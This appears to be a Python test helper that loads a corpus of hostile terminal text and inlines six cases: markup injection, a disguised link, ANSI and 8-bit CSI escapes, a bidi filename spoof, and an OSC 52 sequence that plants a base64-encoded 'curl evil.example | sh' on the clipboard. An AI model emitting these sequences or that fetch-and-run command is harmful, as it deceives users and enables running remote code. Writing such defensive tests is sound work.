"""The shared hostile-text corpus: one string per kind of attack on a terminal."""

from __future__ import annotations

import json
import os
from pathlib import Path


def hostile_text_path() -> Path:
    """`CAREDESK_HOSTILE_TEXT`, else the shared corpus next to the repository."""
    configured = os.environ.get("CAREDESK_HOSTILE_TEXT")
    if configured:
        return Path(configured)
    return Path(__file__).resolve().parents[1].parent / "shared/data/hostile-text.json"


def load_hostile_cases() -> list[tuple[str, str]] | None:
    """(class, text) for every case in the corpus, or None when the file is missing.

    A file that exists but is malformed fails loudly rather than being skipped.
    """
    path = hostile_text_path()
    if not path.is_file():
        return None
    data = json.loads(path.read_text(encoding="utf-8"))
    return [(case["class"], case["text"]) for case in data["cases"]]


MISSING_REASON = (
    f"hostile-text corpus not found at {hostile_text_path()}; "
    "set CAREDESK_HOSTILE_TEXT to its path to run the file-driven tests"
)

#: A few cases kept here too, so the app tests never silently test nothing.
INLINE_CASES = [
    ("markup-bold", "[bold red]Mallory[/bold red]"),
    ("markup-link-unquoted", "[link=https://evil.example/pay]refund status[/link]"),
    ("csi-clear", "\x1b[2J\x1b[Hscreen wiped"),
    ("osc52-clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
    ("c1-csi", "\x9b2J 8-bit CSI"),
    ("bidi-rlo", "invoice \u202egnp.exe"),
]
